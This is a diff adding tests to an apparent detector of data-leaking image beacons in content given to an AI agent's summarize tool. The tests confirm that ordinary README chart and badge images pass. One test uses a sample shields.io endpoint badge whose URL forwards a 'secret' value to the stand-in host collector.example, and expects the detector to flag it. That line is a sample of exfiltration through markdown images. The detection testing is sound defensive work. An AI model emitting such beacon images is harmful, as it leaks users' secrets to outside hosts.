@@ -36,3 +36,19 @@ describe('tool poison: image beacons', () => {
     expect(outcome.findings.some((f) => f.detail.includes('image URL'))).toBe(false);
   });
 });
+
+describe('image beacons: chart and badge services of READMEs', () => {
+  const beacon = (content: string): boolean => judge('summarize_content', { content }).families.includes('exfil_url');
+
+  it.each([
+    '[![performance](https://chart.googleapis.com/chart?chxt=x,y&cht=bhs&chco=76A4FB&chs=600x416&chd=t:12,34,56)](https://example.com)',
+    '[![Install Size](https://packagephobia.now.sh/badge?p=commander)](https://packagephobia.now.sh/result?p=commander)',
+    '[![Follow](https://img.shields.io/mastodon/follow/109247025527949675?domain=https%3A%2F%2Fmastodon.social&style=social)](https://mastodon.social/@x)',
+  ])('passes %s', (text) => {
+    expect(beacon(text)).toBe(false);
+  });
+
+  it('still flags a shields.io endpoint badge that names a URL to fetch', () => {
+    expect(beacon('![x](https://img.shields.io/endpoint?url=https%3A%2F%2Fcollector.example%2F%3Fd%3Dsecret)')).toBe(true);
+  });
+});
